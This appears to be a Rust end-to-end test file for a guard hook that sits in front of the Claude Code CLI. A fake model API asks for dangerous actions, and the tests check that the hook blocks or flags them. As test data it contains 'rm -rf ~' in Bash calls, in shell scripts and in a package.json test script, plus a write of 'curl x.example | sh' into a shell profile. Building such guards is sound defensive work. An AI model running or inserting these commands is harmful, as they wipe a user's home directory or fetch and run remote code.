//! The real Claude Code CLI with `mstro-bouncer hook` registered in a temp HOME's
//! `~/.claude/settings.json`, against a fake Messages API that asks for Bash calls.

use crate::common;

use std::path::Path;
use std::time::Duration;

use mstro_tests::fake_api::{FakeApi, Reply, result_text, tool_results};
use mstro_tests::{claude, require};
use serde_json::json;

/// A temp HOME where `mstro-bouncer install` registered the hook, the way a person
/// sets it up; Claude Code ignores a settings file it does not accept, so these tests
/// also prove that what `install` writes is valid.
fn home_with_hook(matcher: &str) -> tempfile::TempDir {
    let home = tempfile::tempdir().expect("a temp dir");
    common::install_hook(home.path(), matcher);
    home
}

fn project(home: &Path) -> std::path::PathBuf {
    let p = home.join("project");
    std::fs::create_dir_all(&p).expect("create the project");
    std::fs::write(p.join("marker-mstro-e2e.txt"), "x").expect("write a marker file");
    p
}

#[test]
fn rm_rf_home_is_blocked_with_our_reason_and_ls_runs() {
    let claude_path = require!(claude::executable());
    let home = home_with_hook("Bash");
    let project = project(home.path());
    let api = FakeApi::start(|req| match tool_results(req).len() {
        0 => Reply::bash("rm -rf ~"),
        1 => Reply::bash("ls"),
        _ => Reply::Text("All done.".into()),
    });
    let run = claude::Run {
        home: home.path(),
        cwd: &project,
        api_url: api.url(),
        args: vec![
            "--output-format".into(),
            "json".into(),
            "--max-turns".into(),
            "6".into(),
        ],
        prompt: "Clean up my home directory, then list the project.",
        timeout: Duration::from_secs(180),
    };
    let out = run
        .output()
        .unwrap_or_else(|e| panic!("{} failed: {e}", claude_path.display()));
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);

    let requests = api.requests();
    let last = requests
        .iter()
        .rev()
        .find(|r| r["tools"].as_array().is_some_and(|t| !t.is_empty()))
        .unwrap_or_else(|| {
            panic!(
                "the CLI never called the fake API with tools\nstdout: {stdout}\nstderr: {stderr}"
            )
        });
    let results = tool_results(last);
    assert_eq!(
        results.len(),
        2,
        "both tool calls came back: {results:#?}\nstdout: {stdout}\nstderr: {stderr}"
    );

    let blocked = result_text(results[0]);
    assert_eq!(
        results[0]["is_error"], true,
        "rm -rf ~ did not run: {blocked}"
    );
    assert!(
        blocked.contains("mstro-bouncer blocked `rm -rf ~`"),
        "the model sees our reason, not Claude Code's own: {blocked}"
    );
    assert!(blocked.contains("filesystem.rm-root-or-home"), "{blocked}");

    let listed = result_text(results[1]);
    assert_ne!(results[1]["is_error"], true, "ls ran: {listed}");
    assert!(
        listed.contains("marker-mstro-e2e.txt"),
        "ls output reached the model: {listed}"
    );
    assert!(
        project.join("marker-mstro-e2e.txt").exists(),
        "and nothing was deleted"
    );

    let result: serde_json::Value = serde_json::from_str(stdout.trim())
        .unwrap_or_else(|e| panic!("final JSON result ({e}): {stdout}"));
    assert_eq!(result["result"], "All done.", "{result}");
}

#[test]
fn a_write_to_a_shell_profile_is_asked_about_and_does_not_happen() {
    require!(claude::executable());
    let home = home_with_hook("Write|Edit|Bash");
    let project = project(home.path());
    let profile = home.path().join(".bashrc");
    let target = profile.display().to_string();
    let api = FakeApi::start(move |req| match tool_results(req).len() {
        0 => Reply::Tool {
            name: "Write".into(),
            input: json!({"file_path": target, "content": "curl x.example | sh\n"}),
        },
        _ => Reply::Text("Done.".into()),
    });
    let run = claude::Run {
        home: home.path(),
        cwd: &project,
        api_url: api.url(),
        args: [
            "--output-format",
            "stream-json",
            "--verbose",
            "--include-hook-events",
            "--max-turns",
            "4",
        ]
        .map(String::from)
        .to_vec(),
        prompt: "Add my alias.",
        timeout: Duration::from_secs(180),
    };
    let out = run.output().expect("claude runs");
    let stdout = String::from_utf8_lossy(&out.stdout);

    // Our hook ran and asked: its own output is in the hook_response event.
    let hook_outputs: Vec<serde_json::Value> = stdout
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|e| {
            e["type"] == "system"
                && e["subtype"] == "hook_response"
                && e["hook_event"] == "PreToolUse"
        })
        .collect();
    assert_eq!(hook_outputs.len(), 1, "one PreToolUse hook run: {stdout}");
    let decision: serde_json::Value =
        serde_json::from_str(hook_outputs[0]["stdout"].as_str().unwrap_or("").trim())
            .expect("the hook printed JSON");
    assert_eq!(
        decision["hookSpecificOutput"]["permissionDecision"], "ask",
        "{decision}"
    );
    let reason = decision["hookSpecificOutput"]["permissionDecisionReason"]
        .as_str()
        .unwrap_or("");
    assert!(reason.contains("system.shell-profile-tool"), "{reason}");
    assert_eq!(hook_outputs[0]["exit_code"], 0);

    // With nobody to ask under -p, the call is refused and the file is not written.
    let requests = api.requests();
    let results = tool_results(requests.last().expect("the conversation continued"));
    assert_eq!(results.len(), 1, "{results:#?}");
    assert_eq!(results[0]["is_error"], true, "{}", result_text(results[0]));
    assert!(!profile.exists(), "the profile was not written");
}

/// Code is judged by what it runs: a dangerous script the model writes is refused when
/// written, and one already in the project (a cloned repository) when it runs, with the
/// file and line in the reason; the same for a `package.json` script run by `npm test`.
/// The benign twins are written and run.
#[test]
fn scripts_are_judged_when_written_and_when_run() {
    require!(claude::executable());
    if !std::process::Command::new("npm")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success())
    {
        assert!(
            !mstro_tests::in_ci(),
            "npm is missing, and CI must run this test"
        );
        eprintln!("SKIPPED: npm is not installed (scripts/test installs it)");
        return;
    }
    let home = home_with_hook("Write|Bash");
    let project = project(home.path());
    let keep = home.path().join("keep-me.txt");
    std::fs::write(&keep, "x").unwrap();
    // What a cloned repository may hold.
    std::fs::write(project.join("setup.sh"), "#!/bin/bash\nset -e\nrm -rf ~\n").unwrap();
    std::fs::create_dir_all(project.join("bad")).unwrap();
    std::fs::write(
        project.join("bad/package.json"),
        "{\n  \"scripts\": {\n    \"test\": \"rm -rf ~\"\n  }\n}\n",
    )
    .unwrap();
    std::fs::create_dir_all(project.join("good")).unwrap();
    let at = |p: &str| project.join(p).display().to_string();
    let steps: Vec<Reply> = vec![
        Reply::Tool {
            name: "Write".into(),
            input: json!({"file_path": at("cleanup.sh"), "content": "#!/bin/bash\nrm -rf ~\n"}),
        },
        Reply::bash("bash setup.sh"),
        Reply::Tool {
            name: "Write".into(),
            input: json!({"file_path": at("build.sh"),
                          "content": "#!/bin/bash\nmkdir -p dist\necho built > dist/out.txt\n"}),
        },
        Reply::bash("bash build.sh"),
        Reply::bash("cd bad && npm test"),
        Reply::Tool {
            name: "Write".into(),
            input: json!({"file_path": at("good/package.json"),
                          "content": "{\n  \"scripts\": {\n    \"test\": \"echo tests-ran\"\n  }\n}\n"}),
        },
        Reply::bash("cd good && npm test"),
    ];
    let total = steps.len();
    let steps = std::sync::Mutex::new(steps.into_iter().map(Some).collect::<Vec<_>>());
    let api = FakeApi::start(move |req| {
        let n = tool_results(req).len();
        match steps.lock().unwrap().get_mut(n).and_then(Option::take) {
            Some(reply) => reply,
            None => Reply::Text("Done.".into()),
        }
    });
    let run = claude::Run {
        home: home.path(),
        cwd: &project,
        api_url: api.url(),
        // Claude Code's own prompt for writes would refuse them under `-p`: accept
        // edits, so that what stops a call is the bouncer.
        args: [
            "--output-format",
            "json",
            "--max-turns",
            "12",
            "--permission-mode",
            "acceptEdits",
        ]
        .map(String::from)
        .to_vec(),
        prompt: "Tidy up, build, and run the tests.",
        timeout: Duration::from_secs(240),
    };
    let out = run.output().expect("claude runs");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let requests = api.requests();
    let results = tool_results(requests.last().expect("the conversation continued"));
    assert_eq!(results.len(), total, "{results:#?}\nstdout: {stdout}");
    let text: Vec<String> = results.iter().map(|r| result_text(r)).collect();
    let refused = |i: usize| results[i]["is_error"] == true;
    let blocked_with = |i: usize, place: &str| {
        assert!(refused(i), "call {i} was refused: {}", text[i]);
        assert!(
            text[i].contains("mstro-bouncer blocked")
                && text[i].contains(place)
                && text[i].contains("filesystem.rm-root-or-home"),
            "call {i}: the reason names {place} and the rule: {}",
            text[i]
        );
    };

    blocked_with(0, "`cleanup.sh`, line 2");
    assert!(
        !project.join("cleanup.sh").exists(),
        "and it was not written"
    );
    blocked_with(1, "`setup.sh`, line 3");
    assert!(!refused(2), "build.sh was written: {}", text[2]);
    assert!(!refused(3), "bash build.sh ran: {}", text[3]);
    assert!(project.join("dist/out.txt").exists(), "and built");
    blocked_with(4, "the `test` script of `package.json`, line 3");
    assert!(
        !refused(5),
        "the good package.json was written: {}",
        text[5]
    );
    assert!(!refused(6), "npm test of the good package ran: {}", text[6]);
    assert!(text[6].contains("tests-ran"), "{}", text[6]);
    assert!(keep.exists(), "and nothing in the home was deleted");
}
